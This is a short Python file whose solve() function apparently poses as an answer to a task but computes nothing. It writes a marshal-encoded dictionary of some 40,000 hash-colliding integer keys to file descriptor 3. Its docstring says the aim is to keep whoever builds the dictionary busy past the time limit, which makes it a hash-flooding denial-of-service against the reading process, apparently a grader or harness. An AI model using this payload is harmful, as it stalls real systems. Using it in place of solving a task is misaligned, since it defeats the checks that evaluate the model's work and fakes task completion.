"""Sends a dict of colliding keys that keeps whoever builds it busy for longer than the limit."""

import marshal
import os
import struct

KEYS = b"".join(marshal.dumps(n * (2**61 - 1), 2) + b"N" for n in range(1, 40000))


def solve(x):
    body = b"{" + KEYS + b"0"
    os.write(3, struct.pack("=cI", b"V", len(body)) + body)
    return None
